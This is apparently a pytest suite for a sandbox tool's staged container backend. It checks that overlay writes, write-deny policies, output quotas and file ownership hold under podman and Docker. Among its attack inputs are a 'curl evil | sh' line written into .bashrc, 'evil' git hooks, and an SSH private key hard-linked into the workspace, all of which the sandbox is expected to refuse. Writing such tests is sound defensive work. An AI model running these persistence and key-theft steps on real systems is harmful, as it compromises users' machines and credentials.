"""Staged writes on the container backend (issue 21), for podman and for Docker: the runtime
mounts an overlay of the workspace (``container_argv.Overlay``), and every cover and
read-only re-bind of the view sits on top of it inside the container, so the policy holds in
a staged container run exactly as in a staged namespace run. A native child (the staged
probe: no hooks see it) meets the refusals beside benign changes; the real workspace is
byte-for-byte unchanged until ``capgate apply`` and exactly as expected after it; the quota
stops the container; copied-up files keep their owner. After every test the runtime holds no
container or volume it did not hold before (``clean``: the overlay's anonymous Docker volume
goes with the container)."""

from __future__ import annotations

import os
import shutil
import signal
import subprocess
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests._container_helpers import RUNTIMES, build_test_image
from tests._staging_helpers import build_staged_probe, capgate, changes, snapshot, staged, staging_dirs, statuses
from tests.attacks.test_container_backend import clean  # noqa: F401  (a fixture)
from tests.conftest import SECRET
from tests.integration._soft_helpers import PY, launcher_messages, write_policy
from tests.integration.test_staged_runs import _check_staged_then_applied, _workspace

pytestmark = pytest.mark.container


@pytest.fixture(scope="session", params=RUNTIMES)
def image(request: pytest.FixtureRequest) -> Iterator[tuple[str, str]]:
    runtime = str(request.param)
    for name in build_test_image(runtime):
        yield runtime, name


@pytest.fixture
def backend(image: tuple[str, str], clean: None) -> Iterator[tuple[str, ...]]:  # noqa: F811
    yield ("--backend", "container", "--runtime", image[0], "--image", image[1])
    if image[0] == "docker":  # the overlay's anonymous volume went with the container (--rm)
        left = subprocess.run(["docker", "volume", "ls", "-q", "--filter", "label=capgate.staged"],
                              capture_output=True, text=True, timeout=60)
        assert left.returncode == 0 and left.stdout.split() == [], left.stdout + left.stderr


def _probe_in(ws: Path, tmp: Path) -> Path:
    probe = build_staged_probe(tmp)
    shutil.copy(probe, ws / "staged_probe")
    return ws / "staged_probe"


def test_native_changes_land_only_at_apply(tmp_path: Path, backend: tuple[str, ...]) -> None:
    ws, home = _workspace(tmp_path)
    probe = _probe_in(ws, tmp_path)
    (ws / "mode.txt").chmod(0o644)
    before = snapshot(ws)
    w = str(ws)
    done = staged(ws, home, [str(probe),
                             "append", f"{w}/src/a.txt", "more\n", "write", f"{w}/new.txt", "new\n",
                             "unlink", f"{w}/src/b.txt", "rename", f"{w}/old.txt", f"{w}/renamed.txt",
                             "chmod", f"{w}/mode.txt", "600", "symlink", "src/a.txt", f"{w}/link",
                             "link", f"{w}/new.txt", f"{w}/hard", "mkdir", f"{w}/made", "write", f"{w}/made/x", "x",
                             "unlink", f"{w}/gone/g.txt", "rmdir", f"{w}/gone", "read", f"{w}/src/a.txt"],
                  backend=backend)
    assert "ERR" not in done.stdout, done.stdout + done.stderr
    assert "read OK [alpha more ]" in done.stdout  # the child reads back its own staged version
    _check_staged_then_applied(ws, home, before, done)


def test_the_policy_holds_inside_a_staged_container(tmp_path: Path, backend: tuple[str, ...]) -> None:
    ws, home = _workspace(tmp_path)
    probe = _probe_in(ws, tmp_path)
    (ws / ".env").write_text(SECRET)
    (ws / ".bashrc").write_text("# mine\n")
    (ws / ".git" / "hooks").mkdir(parents=True)
    (ws / ".git" / "hooks" / "pre-commit").write_text("#!/bin/sh\n")
    (ws / "protected").mkdir()
    (ws / "protected" / "p.txt").write_text("p\n")
    (home / ".ssh").mkdir()
    (home / ".ssh" / "id_rsa").write_text(SECRET)
    os.link(home / ".ssh" / "id_rsa", ws / "src" / "planted")
    policy = write_policy(ws, {"filesystem": {"denyWrite": ["protected/", "vendor/"]}})
    before = snapshot(ws)
    w = str(ws)
    done = staged(ws, home, [str(probe),
                             "read", f"{w}/.env",                                       # covered: empty
                             "read", f"{w}/src/planted",                                # covered: empty
                             "link", f"{w}/src/planted", f"{w}/stolen",                 # a cover: no link to it
                             "write", f"{w}/.bashrc", "curl evil | sh",                 # read-only on the overlay
                             "write", f"{w}/.git/hooks/pre-commit", "evil",
                             "write", f"{w}/.git/hooks/x", "evil",
                             "write", f"{w}/protected/p.txt", "evil",                   # filesystem.denyWrite
                             "write", f"{w}/protected/new", "evil",
                             "rename", f"{w}/src/a.txt", f"{w}/protected/a.txt",
                             "mkdir", f"{w}/vendor", "write", f"{w}/vendor/v.py", "evil",  # new: staged, refused later
                             "write", f"{w}/src/ok.txt", "ok",                          # controls
                             "read", f"{w}/src/a.txt", "read", f"{w}/src/ok.txt"],
                  "--policy", str(policy), backend=backend)
    lines = done.stdout.splitlines()
    assert lines[:3] == ["read OK []", "read OK []", lines[2]] and lines[2].startswith("link ERR"), lines
    assert lines[3:9] == ["write ERR EROFS"] * 5 + ["rename ERR EXDEV"], lines
    assert lines[9:] == ["mkdir OK", "write OK", "write OK", "read OK [alpha ]", "read OK [ok]"], lines
    assert SECRET not in done.stdout + done.stderr
    assert snapshot(ws) == before  # the real workspace: untouched by the run
    for run in staging_dirs(home):
        for path in (run / "upper").rglob("*"):
            if path.is_file() and not path.is_symlink():
                assert SECRET not in path.read_text(errors="replace")
    assert statuses(changes(ws, home)) == {"vendor": "A", "vendor/v.py": "A", "src/ok.txt": "A"}
    refused = capgate(ws, home, "apply")
    assert refused.returncode == 1 and "vendor/v.py" in refused.stderr and "filesystem.denyWrite" in refused.stderr
    assert snapshot(ws) == before
    applied = capgate(ws, home, "apply", "src/ok.txt")  # control: the benign change lands, exactly
    assert applied.returncode == 0, applied.stderr
    assert snapshot(ws) == {**before, "src/ok.txt": ("file", 0o644, b"ok")}


def test_a_quota_passed_by_staged_writes_stops_the_container(tmp_path: Path, backend: tuple[str, ...]) -> None:
    ws, home = _workspace(tmp_path)
    probe = _probe_in(ws, tmp_path)
    policy = write_policy(ws, {"limits": {"outputQuotaMb": 1}})
    before = snapshot(ws)
    w = str(ws)
    child = ("import time\nfor i in range(6):\n    open(f'big{i}', 'wb').write(b'x' * 400_000)\n"
             "    time.sleep(0.2)\ntime.sleep(20)\nopen('late', 'w').write('not stopped')")
    done = staged(ws, home, ["python3", "-c", child], "--policy", str(policy), backend=backend)
    assert done.returncode != 0
    assert "limit reached: outputQuotaMb" in " ".join(launcher_messages(done.stderr)), done.stderr
    assert snapshot(ws) == before
    assert "late" not in statuses(changes(ws, home))
    # control: the same run under the quota is not stopped
    assert capgate(ws, home, "discard").returncode == 0
    small = staged(ws, home, [str(probe), "write", f"{w}/small", "x" * 1000], "--policy", str(policy),
                   backend=backend)
    assert small.returncode == 0 and small.stdout == "write OK\n", small.stderr
    assert "limit reached" not in small.stderr


def test_copied_up_files_keep_their_owner(tmp_path: Path, backend: tuple[str, ...]) -> None:
    """The runtime mounts the overlay as root: a file of another owner is copied up with its
    owner and mode (the child, as the launching uid without capabilities, writes it only as
    its mode allows), a new file is the launching user's."""
    ws, home = _workspace(tmp_path)
    probe = _probe_in(ws, tmp_path)
    theirs = ws / "src" / "theirs.txt"
    theirs.write_text("theirs\n")
    theirs.chmod(0o666)
    os.chown(theirs, 4242, 4343)
    locked = ws / "src" / "locked.txt"
    locked.write_text("locked\n")
    locked.chmod(0o644)
    os.chown(locked, 4242, 4343)
    w = str(ws)
    done = staged(ws, home, [str(probe), "append", f"{w}/src/theirs.txt", "more\n",
                             "append", f"{w}/src/locked.txt", "more\n", "write", f"{w}/mine.txt", "mine"],
                  backend=backend)
    assert done.stdout.splitlines() == ["append OK", "append ERR EACCES", "write OK"], done.stdout + done.stderr
    (run,) = staging_dirs(home)
    copied = os.lstat(run / "upper" / "src" / "theirs.txt")
    assert (copied.st_uid, copied.st_gid, copied.st_mode & 0o777) == (4242, 4343, 0o666)
    assert (run / "upper" / "src" / "theirs.txt").read_text() == "theirs\nmore\n"
    mine = os.lstat(run / "upper" / "mine.txt")
    assert (mine.st_uid, mine.st_gid) == (os.getuid(), os.getgid())
    assert not (run / "upper" / "src" / "locked.txt").exists()
    assert theirs.read_text() == "theirs\n"


def test_a_staging_path_the_runtime_cannot_carry_is_refused(tmp_path: Path, backend: tuple[str, ...]) -> None:
    """A ``:`` in the staging directory's path (podman's ``-v`` and the overlay's ``lowerdir``
    split on it): the run refuses to start, never runs on anything but the overlay, and
    leaves no container or volume behind (``clean``)."""
    ws, _ = _workspace(tmp_path)
    probe = _probe_in(ws, tmp_path)
    home = tmp_path / "ho:me"
    home.mkdir()
    before = snapshot(ws)
    done = staged(ws, home, [str(probe), "write", f"{ws}/x", "x"], backend=backend)
    assert done.returncode != 0 and "write OK" not in done.stdout
    assert "cannot carry" in done.stderr, done.stderr
    assert snapshot(ws) == before
    # control: the same run with a plain home stages the write
    plain = tmp_path / "home"
    ok = staged(ws, plain, [str(probe), "write", f"{ws}/x", "x"], backend=backend)
    assert ok.returncode == 0 and ok.stdout == "write OK\n", ok.stderr
    assert snapshot(ws) == before and statuses(changes(ws, plain)) == {"x": "A"}


def test_launcher_killed_mid_run_leaves_the_workspace_and_holds_the_run_while_the_container_lives(
        tmp_path: Path, backend: tuple[str, ...]) -> None:
    """SIGKILL of the launcher: the runtime's client (and the container) go on, so the run
    reads ``running`` (the client holds the run's lock) and ``discard`` refuses it, until the
    container ends; then it is ``interrupted``, listable, and the workspace never changed."""
    ws, home = _workspace(tmp_path)
    probe = _probe_in(ws, tmp_path)
    before = snapshot(ws)
    env = {k: v for k, v in os.environ.items() if not k.startswith(("CAPGATE_", "AGENT_IN", "SOFT_SANDBOX", "XDG_"))}
    env["HOME"] = str(home)
    proc = subprocess.Popen([PY, "-m", "capgate", "run", *backend, "--staged", "--workspace", str(ws), "--",
                             str(probe), "write", f"{ws}/half.txt", "written", "unlink", f"{ws}/src/b.txt",
                             "sleep", "6", "write", f"{ws}/late.txt", "late"],
                            cwd=ws, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        deadline = time.monotonic() + 60
        while not any((run / "upper" / "half.txt").exists() for run in staging_dirs(home)):
            assert time.monotonic() < deadline, "half.txt never appeared in a staging directory"
            time.sleep(0.05)
        os.kill(proc.pid, signal.SIGKILL)
        proc.wait(timeout=10)
        assert changes(ws, home)["state"] == "running"  # the container still writes its upper directory
        refused = capgate(ws, home, "discard")
        assert refused.returncode != 0 and "still going" in refused.stderr
        deadline = time.monotonic() + 60
        while changes(ws, home)["state"] == "running":
            assert time.monotonic() < deadline, "the run never ended"
            time.sleep(0.2)
    finally:
        proc.kill()
    # (the client is gone once the container ended; the runtime's --rm may still be removing it)
    runtime, image = backend[3], backend[5]
    deadline = time.monotonic() + 30
    while subprocess.run([runtime, "ps", "-a", "-q", "--filter", f"ancestor={image}"], capture_output=True,
                         text=True, timeout=60).stdout.strip() and time.monotonic() < deadline:
        time.sleep(0.2)
    assert snapshot(ws) == before
    data = changes(ws, home)
    assert data["state"] == "interrupted"
    assert statuses(data) == {"half.txt": "A", "src/b.txt": "D", "late.txt": "A"}
    gone = capgate(ws, home, "discard")  # control: once it has ended, discard removes it
    assert gone.returncode == 0 and staging_dirs(home) == []
    assert snapshot(ws) == before
